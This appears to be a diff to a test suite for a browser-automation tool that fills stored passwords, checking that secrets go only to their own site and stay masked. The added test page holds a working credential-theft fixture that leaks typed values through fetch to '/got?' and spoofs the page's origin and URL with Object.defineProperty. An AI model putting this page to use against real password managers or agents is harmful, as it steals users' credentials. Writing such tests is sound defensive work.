@@ -39,7 +39,14 @@ HOME = """<!doctype html><title>Tea</title><h1>Tea &amp; cake</h1>
 <p style="display: none">unseen</p>"""
 LOGIN = """<!doctype html><title>Log in</title><form action=/found method=post>
 <input name=user><input name=password type=password><button>Go</button></form>"""
-OTHER = "<title>Other</title><input type=password>"
+OTHER = """<title>Other</title><input type=password oninput="fetch('/got?' + this.value)"><script>
+const site = new URLSearchParams(location.search).get("site");
+const frame = document.createElement("iframe"), one = document.querySelector("input");
+if (site) { frame.src = site; document.body.append(frame); setInterval(() => one.focus(), 0); }
+for (const [owner, name, value] of [[self, "origin", site], [Document.prototype, "URL", site],
+    [Document.prototype, "documentElement", frame], [Node.prototype, "ownerDocument", document]])
+  Object.defineProperty(owner, name, { get: () => value });
+</script>"""
 TITLES = """<!doctype html><script>
 const asked = new URLSearchParams(location.search).get("me");
 if (asked) { document.cookie = "me=" + asked; localStorage.me = asked; }
@@ -287,17 +294,24 @@ async def test_attack_a_password_goes_to_its_own_site_into_a_password_and_nowher
 ) -> None:
     known = {"SHOP": PASSWORD}
     async for web in using(site, known=known, secrets={"SHOP": site.url, "UNSET": site.url}):
+        PAGES["/textarea"] = "<label type=password>L<textarea type=password></textarea></label>"
         PAGES["/framed"] = f"<title>Framed</title><iframe src='{web.other.url}'></iframe>"
         await web.done("navigate", {"url": "/framed"}, who)
         described = (await web.done("snapshot", {}, who))["snapshot"]
         ref = described.partition("textbox [ref=")[2].partition("]")[0]
         assert ref.startswith("f")
         framed = await web("fill", {"target": ref, "kept": "SHOP"}, who)
-        assert f"is for {site.url} alone" in message(framed)
+        assert f"of {site.url} alone" in message(framed)
         for given, said in (
-            ({"url": web.other.url, "target": "input"}, f"is for {site.url} alone"),
+            ({"url": web.other.url, "target": "input"}, f"of {site.url} alone"),
+            (
+                {"url": f"{web.other.url}/?site={site.url}/login", "target": "input"},
+                f"of {site.url} alone",
+            ),
+            ({"url": "/textarea", "target": "textarea"}, "no input for a password"),
+            ({"url": "/textarea", "target": "label"}, "no input for a password"),
             ({"url": "/login", "target": "[name=user]"}, "no input for a password"),
-            ({"url": "/login", "target": "[type=password]", "value": "x"}, "give it or a value"),
+            ({"url": "/login", "target": "[type=password]", "value": "x"}, "either it or kept"),
             ({"url": "/login", "target": "[type=password]", "kept": "UNSET"}, "not set up to run"),
             ({"url": "/login", "target": "[type=password]", "kept": "HOME"}, "/kept"),
         ):
@@ -305,13 +319,16 @@ async def test_attack_a_password_goes_to_its_own_site_into_a_password_and_nowher
             assert result.error is not None, given
             assert said in message(result), message(result)
             assert result.error.effects == "none"
-    assert not any(PASSWORD.encode() in asked.body for asked in web.other.asked)
+        missing = await web("fill", {"url": "/login", "target": "[type=password]"}, who)
+        assert "either it or kept" in message(missing)
+    assert web.other.asked
+    assert not any(PASSWORD in asked.target for asked in web.other.asked)
 
 
 @pytest.mark.parametrize(
     "password", ["tea", 'He said: "no"\\', "key: - value #", " of  two\u200b words "]
 )
-@pytest.mark.parametrize("more", ["", "placeholder=p"])
+@pytest.mark.parametrize("more", ["", "placeholder=p", "aria-label='Password: *'"])
 async def test_what_stands_in_an_input_for_a_password_is_not_described(
     web: Web, who: str, password: str, more: str
 ) -> None:
@@ -322,6 +339,27 @@ async def test_what_stands_in_an_input_for_a_password_is_not_described(
     assert "••••••••" in described
     assert max(re.findall(r"\w+", password), key=len) not in described
     assert "end" in described
+
+
+async def test_what_was_kept_is_dots_wherever_its_page_shows_it(site: Service, who: str) -> None:
+    PAGES["/shows"] = """<title>Shows</title><input type=password
+oninput="p.textContent = p.title = this.value; this.type = 'text'"><p id=p></p>"""
+    async for web in using(site, known={"SHOP": "tea4two"}, secrets={"SHOP": site.url}):
+        await web.done("fill", {"url": "/shows", "target": "input", "kept": "SHOP"}, who)
+        described = (await web.done("snapshot", {"max_chars": 10_000}, who))["snapshot"]
+        given = {"selector": "p", "attributes": ["title"], "max_chars": 6}
+        found = await web.done("extract", given, who)
+        assert (described.count("••••••••"), "tea4" in described) == (2, False)
+        assert found["items"][0]["text"] == "••••••"
+
+
+@pytest.mark.parametrize("script", ["String = () => 5", "Array.prototype.map = 5", "eval = 5"])
+async def test_a_page_with_a_password_that_lies_is_described(
+    web: Web, who: str, script: str
+) -> None:
+    PAGES["/liar"] = f"<title>Liar</title><input type=password value=x1y2><script>{script}</script>"
+    described = (await web.done("snapshot", {"url": "/liar"}, who))["snapshot"]
+    assert ("••••••••" in described, "x1y2" in described) == (True, False)
 
 
 async def test_a_password_that_is_not_there_is_told_with_the_health(site: Service) -> None:
